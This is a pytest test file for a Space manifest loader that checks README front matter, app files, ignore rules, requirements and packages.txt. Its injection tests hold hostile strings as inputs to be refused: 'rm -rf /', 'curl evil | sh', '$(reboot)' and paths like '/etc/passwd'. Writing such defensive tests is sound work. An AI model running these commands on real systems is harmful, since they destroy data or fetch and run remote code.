"""load_space / validate_space: app files, exclusions, dependency files, collected problems."""

from __future__ import annotations

import pytest

from spacehost.errors import ManifestInvalid
from spacehost.manifest import Problem, SpaceSource, load_space, validate_space
from spacehost.manifest.requirements import canonical_name, exact_pin, requirement_lines

GRADIO = b"---\ntitle: Demo\nsdk: gradio\nsdk_version: 4.44.1\n---\n"
APP = b"import gradio as gr\n"


def space(**files: bytes) -> dict[str, bytes]:
    """A gradio space (README.md, app.py) plus *files*."""
    out = {"README.md": GRADIO, "app.py": APP}
    out.update(files)
    return out


def load(files: dict[str, bytes]) -> SpaceSource:
    return load_space(files)


def refuse(files: dict[str, bytes]) -> ManifestInvalid:
    with pytest.raises(ManifestInvalid) as info:
        load_space(files)
    return info.value


def test_a_minimal_gradio_space() -> None:
    source = load(space())
    assert source.manifest.title == "Demo"
    assert dict(source.files) == {"README.md": GRADIO, "app.py": APP}
    assert (source.requirements, source.pre_requirements, source.packages) == ((), (), ())
    assert source.warnings == ()
    assert not source.has_dockerfile


def test_default_title_is_the_space_name() -> None:
    files = {"README.md": b"---\nsdk: gradio\n---\n", "app.py": APP}
    assert load_space(files, default_title="my-demo").manifest.title == "my-demo"


def test_files_are_read_only() -> None:
    source = load(space())
    with pytest.raises(TypeError):
        source.files["x"] = b""  # type: ignore[index]


# -- README ----------------------------------------------------------------------------------


def test_no_readme() -> None:
    err = refuse({"app.py": APP})
    assert err.message.startswith("README.md: no README.md in the space")
    assert err.details["stage"] == "CONFIG_ERROR"


def test_readme_with_the_wrong_case_gets_a_hint() -> None:
    err = refuse({"readme.md": GRADIO, "app.py": APP})
    assert "readme.md must be named exactly README.md" in err.message


def test_readme_that_is_not_utf8() -> None:
    err = refuse({"README.md": b"---\nsdk: gradio\ntitle: \xff\n---\n", "app.py": APP})
    assert err.details["problems"][0]["message"].startswith("is not UTF-8 text")


def test_readme_without_front_matter_is_reported_with_other_problems() -> None:
    err = refuse({"README.md": b"# hi\n", "packages.txt": b"bad;name\n"})
    assert [p["file"] for p in err.details["problems"]] == ["README.md", "packages.txt"]
    assert "front matter" in err.details["problems"][0]["message"]


def test_readme_without_front_matter_keeps_the_example_hint() -> None:
    err = refuse({"README.md": b"# hi\n", "app.py": APP})
    assert err.message.startswith("README.md: there is no YAML front matter")
    assert "sdk: gradio" in err.hint


def test_readme_with_bom_and_crlf() -> None:
    files = space() | {"README.md": b"\xef\xbb\xbf---\r\nsdk: gradio\r\n---\r\n"}
    assert load(files).manifest.sdk == "gradio"


# -- app files -------------------------------------------------------------------------------


def test_missing_app_file_is_no_app_file() -> None:
    err = refuse({"README.md": GRADIO})
    assert err.message == "app file 'app.py' not found"
    assert err.details["stage"] == "NO_APP_FILE"
    assert err.details["problems"] == [
        {"file": "README.md", "field": "app_file", "message": "app file 'app.py' not found"}
    ]
    assert "app_file" in err.hint


def test_custom_app_file() -> None:
    readme = b"---\nsdk: gradio\napp_file: src/main.py\n---\n"
    assert load({"README.md": readme, "src/main.py": APP}).manifest.app_file == "src/main.py"
    err = refuse({"README.md": readme, "app.py": APP})
    assert err.message == "app file 'src/main.py' not found"


def test_missing_app_file_with_other_problems_is_a_config_error() -> None:
    err = refuse({"README.md": GRADIO, "packages.txt": b"Bad\n"})
    assert err.details["stage"] == "CONFIG_ERROR"
    assert err.message.startswith("2 problems in the space's files:\n")
    assert "  - README.md: app_file: app file 'app.py' not found" in err.message


def test_docker_space_needs_a_dockerfile() -> None:
    readme = b"---\nsdk: docker\napp_port: 8080\n---\n"
    err = refuse({"README.md": readme})
    assert err.message == "Dockerfile not found"
    assert err.details["stage"] == "NO_APP_FILE"
    source = load({"README.md": readme, "Dockerfile": b"FROM x\n"})
    assert source.has_dockerfile and source.manifest.app_port == 8080


def test_static_space_needs_index_html() -> None:
    readme = b"---\nsdk: static\n---\n"
    assert refuse({"README.md": readme}).message == "app file 'index.html' not found"
    assert load({"README.md": readme, "index.html": b"<h1>hi</h1>"}).manifest.app_file == (
        "index.html"
    )


def test_excluded_app_file_says_which_ignore_file_excluded_it() -> None:
    err = refuse(space(**{".spacehostignore": b"*.py\n"}))
    assert err.message == "app file 'app.py' not found (it is excluded by .spacehostignore)"
    assert err.details["stage"] == "NO_APP_FILE"


# -- exclusions ------------------------------------------------------------------------------


def test_git_is_always_excluded() -> None:
    source = load(space(**{".git/config": b"x", "sub/.git": b"gitdir: ..", "keep.txt": b"k"}))
    assert sorted(source.files) == ["README.md", "app.py", "keep.txt"]


def test_spacehostignore_and_dockerignore_apply_to_gradio_spaces() -> None:
    files = space(
        **{
            ".spacehostignore": b"secrets/\n",
            ".dockerignore": b"*.ckpt\n!small.ckpt\n",
            "secrets/key": b"k",
            "big.ckpt": b"b",
            "small.ckpt": b"s",
        }
    )
    assert sorted(load(files).files) == [
        ".dockerignore",
        ".spacehostignore",
        "README.md",
        "app.py",
        "small.ckpt",
    ]


def test_dockerignore_is_left_to_docker_for_docker_spaces() -> None:
    files = {
        "README.md": b"---\nsdk: docker\n---\n",
        "Dockerfile": b"FROM x\n",
        ".dockerignore": b"*.ckpt\n",
        ".spacehostignore": b"notes/\n",
        "big.ckpt": b"b",
        "notes/a.txt": b"n",
    }
    assert sorted(load(files).files) == [
        ".dockerignore",
        ".spacehostignore",
        "Dockerfile",
        "README.md",
        "big.ckpt",
    ]


def test_readme_is_never_excluded() -> None:
    assert "README.md" in load(space(**{".spacehostignore": b"*.md\n"})).files


def test_invalid_ignore_pattern_is_a_problem() -> None:
    err = refuse(space(**{".dockerignore": b"ok\n[bad\n"}))
    assert err.details["problems"][0]["file"] == ".dockerignore"
    assert err.details["problems"][0]["field"] == "line 2"


@pytest.mark.parametrize("path", ["/etc/passwd", "../x", "a/../../x", "a//b", "./a", "a\nb", ""])
def test_unsafe_paths_are_refused(path: str) -> None:
    err = refuse(space(**{"ok.txt": b""}) | {path: b"x"})
    assert err.details["problems"][0]["file"] == path
    assert "not a safe relative path" in err.details["problems"][0]["message"]


# -- requirements ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        ("torch\nnumpy>=1.26\n", ("torch", "numpy>=1.26")),
        ("# comment\n\n  \ntorch  # cpu build\n", ("torch",)),
        ("-r base.txt\n--extra-index-url https://x/simple\n", ("-r base.txt",
                                                               "--extra-index-url https://x/simple")),
        ("git+https://github.com/a/b.git#egg=b\n", ("git+https://github.com/a/b.git#egg=b",)),
        ("numpy \\\n  >=1.26\n", ("numpy   >=1.26",)),
        ("torch\r\nnumpy\r\n", ("torch", "numpy")),
        ("", ()),
    ],
)  # fmt: skip
def test_requirement_lines(text: str, lines: tuple[str, ...]) -> None:
    assert requirement_lines(text) == lines


def test_requirements_and_pre_requirements_are_parsed() -> None:
    source = load(
        space(
            **{
                "requirements.txt": b"\xef\xbb\xbftransformers==4.40  # pinned\n\ntorch\n",
                "pre-requirements.txt": b"pip>=24\n",
            }
        )
    )
    assert source.requirements == ("transformers==4.40", "torch")
    assert source.pre_requirements == ("pip>=24",)


def test_requirements_that_are_not_utf8() -> None:
    err = refuse(space(**{"requirements.txt": b"\xfe\xff"}))
    assert err.details["problems"][0]["file"] == "requirements.txt"


def test_requirements_including_a_missing_file_warn() -> None:
    source = load(space(**{"requirements.txt": b"-r base.txt\n-r other.txt\n", "base.txt": b""}))
    assert source.warnings == (
        Problem(
            "requirements.txt",
            "",
            "`-r other.txt` names other.txt, which is not in the space; pip will fail at build "
            "time",
        ),
    )


@pytest.mark.parametrize(
    ("line", "pin"),
    [
        ("gradio==4.0.0", "4.0.0"),
        ("Gradio == 4.0.0", "4.0.0"),
        ("gradio[oauth]==5.1", "5.1"),
        ("gradio===5.1", "5.1"),
        ("gradio==5.1 ; python_version >= '3.10'", "5.1"),
        ("gradio>=4", None),
        ("gradio", None),
        ("gradio_client==1.0", None),
        ("gradio==4.0,<5", None),
        ("-e git+https://x/gradio.git", None),
    ],
)
def test_exact_pin(line: str, pin: str | None) -> None:
    assert exact_pin(line, "gradio") == pin


def test_canonical_name() -> None:
    assert canonical_name("Gradio_Client.Extra") == "gradio-client-extra"


def test_gradio_pin_different_from_sdk_version_warns() -> None:
    source = load(space(**{"requirements.txt": b"gradio==3.50.2\ntorch\n"}))
    assert source.warnings == (
        Problem(
            "requirements.txt",
            "gradio",
            "gradio==3.50.2 in requirements.txt is replaced by sdk_version 4.44.1, as on Hugging "
            "Face; set sdk_version in README.md to choose the gradio version",
        ),
    )
    assert source.requirements == ("gradio==3.50.2", "torch")


def test_gradio_pin_equal_to_sdk_version_is_quiet() -> None:
    assert load(space(**{"requirements.txt": b"gradio==4.44.1\n"})).warnings == ()


def test_gradio_pin_without_sdk_version_names_the_platform_version() -> None:
    files = {"README.md": b"---\nsdk: gradio\n---\n", "app.py": APP}
    files["pre-requirements.txt"] = b"gradio==4.0\n"
    (warning,) = load(files).warnings
    assert warning.file == "pre-requirements.txt"
    assert "replaced by the platform's gradio version" in warning.message


def test_docker_and_static_spaces_do_not_parse_dependency_files() -> None:
    files = {
        "README.md": b"---\nsdk: docker\n---\n",
        "Dockerfile": b"FROM x\n",
        "requirements.txt": b"gradio==1.0\n",
        "packages.txt": b"$(evil)\n",
    }
    source = load(files)
    assert (source.requirements, source.packages, source.warnings) == ((), (), ())
    assert source.files["packages.txt"] == b"$(evil)\n"


# -- packages.txt --------------------------------------------------------------------------


def test_packages() -> None:
    text = (
        b"# system deps\nffmpeg\nlibgl1  libglib2.0-0\n\n"
        b"g++ # compiler\nlibc6:amd64\npython3=3.11.2-1\n"
    )
    source = load(space(**{"packages.txt": text}))
    assert source.packages == (
        "ffmpeg",
        "libgl1",
        "libglib2.0-0",
        "g++",
        "libc6:amd64",
        "python3=3.11.2-1",
    )


@pytest.mark.parametrize(
    "line",
    [
        "ffmpeg; rm -rf /",
        "ffmpeg && curl evil | sh",
        "$(reboot)",
        "`id`",
        "ffmpeg>out",
        "-y",
        "--allow-unauthenticated",
        "FFmpeg",
        "x",
        "ffmpeg=1.0;ls",
        "'quoted'",
    ],
)
def test_packages_injection_is_refused_naming_the_line(line: str) -> None:
    err = refuse(space(**{"packages.txt": f"ffmpeg\n{line}\n".encode()}))
    (problem,) = err.details["problems"]
    assert problem["file"] == "packages.txt"
    assert problem["field"] == "line 2"
    assert repr(line) in problem["message"]
    assert "is not a list of Debian package names" in problem["message"]


# -- validate_space ----------------------------------------------------------------------------


def test_validate_space_returns_problems_instead_of_raising() -> None:
    check = validate_space({"README.md": b"---\nsdk: gradio\nhf_oauth: true\n---\n"})
    assert check.source is None
    assert [str(p) for p in check.errors] == ["README.md: app_file: app file 'app.py' not found"]
    assert [p.field for p in check.warnings] == ["hf_oauth"]


def test_validate_space_of_a_valid_space() -> None:
    check = validate_space(space())
    assert check.source is not None and check.errors == () and check.warnings == ()


def test_warnings_of_manifest_and_files_are_combined_in_order() -> None:
    readme = b"---\nsdk: gradio\nsdk_version: 4.0.0\ncolour: red\n---\n"
    source = load(space(**{"requirements.txt": b"gradio==3.0\n"}) | {"README.md": readme})
    assert [(w.file, w.field) for w in source.warnings] == [
        ("README.md", "colour"),
        ("requirements.txt", "gradio"),
    ]
    assert source.manifest.warnings == source.warnings[:1]
